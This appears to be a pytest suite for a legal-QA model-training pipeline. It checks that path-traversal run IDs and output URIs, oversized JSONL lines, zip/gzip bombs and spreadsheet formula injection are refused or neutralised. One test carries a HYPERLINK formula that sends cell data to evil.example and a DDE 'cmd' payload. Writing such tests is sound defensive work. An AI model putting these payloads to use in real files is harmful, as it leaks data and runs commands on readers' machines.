"""Inputs that try to do harm: each is exit 2 with one line, and nothing lands outside the run's folder.

Every case runs the stage as charts run it (``python -m jobs.<stage>``) with the artifact root
in a fresh folder whose parent is watched: after the call, no file exists anywhere under the
parent except below ``<root>/runs/<run_id>/`` (and the cache).
"""

from __future__ import annotations

import csv
import gzip
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from shared.data.export import neutralise
from tests.conftest import REPO

SAMPLE = REPO / "configs" / "data" / "legal_qa_sample.csv"

pytestmark = pytest.mark.fault("harmful inputs (section 4)")


def _run(tmp_path: Path, *args: str, run_id: str = "r1", module: str = "jobs.preprocess") -> subprocess.CompletedProcess:
    env = {**os.environ, "LAWTUNE_ARTIFACT_ROOT": f"file://{tmp_path / 'root'}", "LAWTUNE_RUN_ID": run_id,
           "LAWTUNE_CACHE_DIR": str(tmp_path / "cache")}
    return subprocess.run([sys.executable, "-m", module, *args], cwd=REPO, env=env, capture_output=True, text=True,
                          timeout=300)


def _written(tmp_path: Path) -> set[str]:
    """Files under tmp_path outside the inputs, the cache and the run's folder (root/runs/r1)."""
    return {p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*")
            if p.is_file() and p.relative_to(tmp_path).parts[0] not in ("in", "cache")
            and p.relative_to(tmp_path).parts[:3] != ("root", "runs", "r1")}


def _one_line_exit_2(result: subprocess.CompletedProcess, stage: str, needle: str) -> None:
    assert result.returncode == 2, result.stderr[-2000:]
    errors = [line for line in result.stderr.splitlines() if ": error: " in line]
    assert len(errors) == 1 and errors[0] == result.stderr.strip().splitlines()[-1], result.stderr[-2000:]
    assert errors[0].startswith(f"lawtune {stage}: error: ") and needle in errors[0], errors[0]


@pytest.mark.parametrize("run_id", ["../escape", "..", "a/../../b", "a/b"])
def test_run_id_with_a_path_is_refused(tmp_path, run_id):
    result = _run(tmp_path, "--input", str(SAMPLE), run_id=run_id)
    _one_line_exit_2(result, "preprocess", "LAWTUNE_RUN_ID")
    assert _written(tmp_path) == set()


@pytest.mark.parametrize("name", ["../escape", "a/../../b", "UPPER/../x", ".."])
def test_model_name_with_a_path_is_refused(tmp_path, name):
    result = _run(tmp_path, "--model-name", name, module="jobs.publish")
    _one_line_exit_2(result, "publish", "--model-name")
    assert _written(tmp_path) == set()


@pytest.mark.parametrize("output", [
    pytest.param("file://{root}/runs/r1/../../../outside", id="dotdot-escape"),
    pytest.param("file://{tmp}/elsewhere", id="sibling-folder"),
    pytest.param("file:///etc/lawtune", id="absolute-elsewhere"),
    pytest.param("s3://other-bucket/x", id="other-backend"),
])
def test_an_output_uri_outside_the_artifact_root_is_refused(tmp_path, output):
    out = output.format(root=tmp_path / "root", tmp=tmp_path)
    result = _run(tmp_path, "--input", str(SAMPLE), "--output", out)
    _one_line_exit_2(result, "preprocess", "output URI")
    assert _written(tmp_path) == set()
    assert not Path("/etc/lawtune").exists()


def test_a_100_mib_jsonl_line_is_refused_naming_the_line(tmp_path):
    src = tmp_path / "in" / "big.jsonl"
    src.parent.mkdir()
    ok = json.dumps({"conversations": [{"role": "user", "content": "什么是劳动合同的试用期规定"},
                                       {"role": "assistant", "content": "试用期最长不得超过六个月，且包含在劳动合同期限内。"}]},
                    ensure_ascii=False)
    with open(src, "w", encoding="utf-8") as fh:
        fh.write(ok + "\n" + ok + "\n")
        fh.write('{"conversations": [{"role": "user", "content": "问题很长吗"}, {"role": "assistant", "content": "')
        chunk = "长" * (1 << 20)
        for _ in range(100):
            fh.write(chunk)
        fh.write('"}]}\n')
    result = _run(tmp_path, "--input", str(src))
    _one_line_exit_2(result, "preprocess", "line 3 is over")
    assert _written(tmp_path) == set()


@pytest.mark.parametrize("kind", ["zip", "gzip"])
def test_a_compressed_bomb_offered_as_csv_is_refused_without_unpacking(tmp_path, kind):
    """A few hundred KiB that would inflate to 1 GiB: refused from its first bytes, never inflated."""
    src = tmp_path / "in" / "questions.csv"
    src.parent.mkdir()
    zeros = b"0" * (1 << 24)
    if kind == "zip":
        with zipfile.ZipFile(src, "w", compression=zipfile.ZIP_DEFLATED) as z:
            with z.open("questions.csv", "w") as member:
                for _ in range(64):
                    member.write(zeros)
    else:
        with gzip.open(src, "wb") as g:
            for _ in range(64):
                g.write(zeros)
    assert src.stat().st_size < 3 << 20
    result = _run(tmp_path, "--input", str(src))
    _one_line_exit_2(result, "preprocess", "not a dataset")
    assert _written(tmp_path) == set()


def test_formula_cells_are_neutralised_in_the_spreadsheet_export_and_kept_raw(tmp_path):
    src = tmp_path / "in" / "qa.csv"
    src.parent.mkdir()
    rows = list(csv.reader(SAMPLE.open(encoding="utf-8")))
    header = rows[0]
    hostile = dict(zip(header, ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "", "0"]))
    rows.append([hostile.get(h, "") for h in header])
    with open(src, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    result = _run(tmp_path, "--input", str(src))
    assert result.returncode == 0, result.stderr[-2000:]
    data = tmp_path / "root" / "runs" / "r1" / "data"
    raw = [json.loads(line) for line in (data / "rejected.jsonl").read_text(encoding="utf-8").splitlines()]
    mine = next(r for r in raw if r["raw"].get("title", "").startswith("=HYPERLINK"))
    assert mine["raw"]["title"] == hostile["title"], "raw data is kept as read"
    exported = list(csv.DictReader((data / "rejected.csv").open(encoding="utf-8-sig")))
    assert len(exported) == len(raw)
    cells = [c for row in exported for c in row.values() if c]
    assert not [c for c in cells if c[0] in "=+-@\t\r"], "no cell a spreadsheet would evaluate"
    row = next(r for r in exported if r["raw.title"].startswith("'=HYPERLINK"))
    assert row["raw.title"] == "'" + hostile["title"]


@pytest.mark.parametrize("cell, shown", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("劳动合同", "劳动合同"), ("a=b", "a=b"), (None, ""), (12, "12"),
])
def test_neutralise(cell, shown):
    assert neutralise(cell) == shown
